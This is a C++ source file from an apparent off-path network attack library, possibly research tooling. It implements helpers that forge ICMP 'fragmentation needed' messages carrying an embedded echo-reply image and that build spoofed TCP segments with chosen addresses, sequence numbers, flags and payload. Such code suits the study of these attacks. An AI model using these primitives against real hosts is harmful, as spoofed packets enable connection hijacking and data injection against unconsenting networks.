#include "offpath/attack/forge.hpp"

namespace offpath::attack {

const char* to_string(EmbeddedSource source) {
  return source == EmbeddedSource::SyntheticEchoReply ? "synthetic" : "elicited";
}

net::Packet echo_request(net::Ipv4Addr from, net::Ipv4Addr to, std::uint16_t id,
                         std::uint16_t seqno) {
  return net::make_icmp_packet(from, to, net::EchoRequest{id, seqno});
}

std::vector<std::uint8_t> echo_reply_image(net::Ipv4Addr server, net::Ipv4Addr client,
                                           std::uint16_t id, std::uint16_t seqno) {
  return net::header_image(net::make_icmp_packet(server, client, net::EchoReply{id, seqno}));
}

net::Packet forge_frag_needed(net::Ipv4Addr router, net::Ipv4Addr server, net::Ipv4Addr client,
                              std::uint16_t mtu, std::uint16_t echo_id, std::uint16_t echo_seqno) {
  auto image = echo_reply_image(server, client, echo_id, echo_seqno);
  return net::make_icmp_packet(router, server, net::make_frag_needed(mtu, std::move(image)));
}

net::Packet spoofed_tcp(net::Ipv4Addr src, std::uint16_t sport, net::Ipv4Addr dst,
                        std::uint16_t dport, std::uint32_t seq, std::uint32_t ack,
                        net::TcpFlags flags, std::string payload) {
  net::TcpSegment seg;
  seg.sport = sport;
  seg.dport = dport;
  seg.seq = seq;
  seg.ack = ack;
  seg.flags = flags;
  seg.window = 0xffff;
  seg.payload = std::move(payload);
  return net::make_tcp_packet(src, dst, std::move(seg), true);
}

}  // namespace offpath::attack
